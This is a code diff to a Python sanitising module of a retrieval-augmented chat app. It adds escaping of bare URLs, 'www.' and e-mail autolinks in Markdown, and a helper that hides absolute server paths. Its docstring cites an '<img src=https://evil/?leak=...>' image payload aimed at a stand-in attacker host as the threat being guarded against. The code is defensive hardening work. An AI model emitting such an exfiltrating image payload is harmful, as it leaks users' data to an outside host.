@@ -3,8 +3,10 @@
 Everything that comes from a document or a model is untrusted: a passage may contain `<script>`,
 `<img src=https://evil/?leak=...>` or Markdown image syntax. So text is never handed to a
 renderer as it is. In the chat, Markdown's active characters are backslash-escaped before our own
-marker links are added; in the citations panel, text is HTML-escaped and the finished HTML is then
-passed through nh3 (Ammonia) with a short allow-list, no `<img>`, no URLs but in-page anchors.
+marker links are added, and what the chat's Markdown would turn into a link by itself (a bare URL,
+`www.`, an e-mail address) is broken with an escape that leaves the text as it reads; in the
+citations panel, text is HTML-escaped and the finished HTML is then passed through nh3 (Ammonia)
+with a short allow-list, no `<img>`, no URLs but in-page anchors.
 """
 
 from __future__ import annotations
@@ -14,7 +16,9 @@ import re
 
 from rag.types import Answer, Citation, Hit
 
-_MARKDOWN_ACTIVE = re.compile(r"([\\`*_\[\]<>!|~&$])")  # anywhere in a line
+_MARKDOWN_ACTIVE = re.compile(r"([\\`*_\[\]<>!|~&$@])")  # anywhere in a line; `@` starts no e-mail link
+_AUTOLINK = re.compile(r"(?i)(?:(?<=https)|(?<=http)|(?<=ftp))(?=://)|(?<=www)(?=\.)")  # GFM links these bare
+_ABSOLUTE_PATH = re.compile(r"(?<![\w.:/~-])/(?:[^\s/'\"`<>]+/)+([^\s/'\"`<>]+)")
 _LINE_START = re.compile(r"^(\s*)([#>+\-=]|\d+[.)])", re.M)  # headings, quotes, lists, setext rules
 _MARKER = re.compile(r"\\\[(\d+)\\\]")  # a marker [n] after escaping
 _ALLOWED_TAGS = {"div", "span", "mark", "b", "p", "small", "a", "h4", "ul", "li", "em"}
@@ -23,9 +27,19 @@ DOCUMENT_MARK_ID = "rag-doc-mark"
 
 
 def escape_markdown(text: str) -> str:
-    """Text that Markdown shows literally: no links, images, HTML or emphasis can come out of it."""
+    """Text that Markdown shows literally: no links (not even a bare URL or e-mail address),
+    images, HTML or emphasis can come out of it."""
     escaped = _MARKDOWN_ACTIVE.sub(r"\\\1", text)
+    escaped = _AUTOLINK.sub(r"\\", escaped)  # https\://…, www\.…: read the same, link nowhere
     return _LINE_START.sub(lambda m: f"{m.group(1)}{m.group(2)[:-1]}\\{m.group(2)[-1]}", escaped)
+
+
+def without_paths(text: str, places: dict[str, str]) -> str:
+    """A message for the window with no absolute server path in it: each known folder (full path
+    → shown name) replaced by its name, then any other absolute path by its last part."""
+    for full in sorted(places, key=len, reverse=True):
+        text = text.replace(full, places[full])
+    return _ABSOLUTE_PATH.sub(lambda m: m.group(1), text)
 
 
 def clean_html(fragment: str) -> str:
